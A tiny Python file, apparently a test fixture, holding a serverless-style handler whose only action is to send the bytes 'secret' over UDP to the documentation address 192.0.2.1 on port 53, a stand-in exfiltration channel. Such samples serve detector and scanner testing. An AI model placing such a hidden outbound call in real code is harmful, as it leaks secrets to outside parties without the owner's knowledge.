"""Sends data out in a datagram."""

import socket


def handler(event, context):
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53))
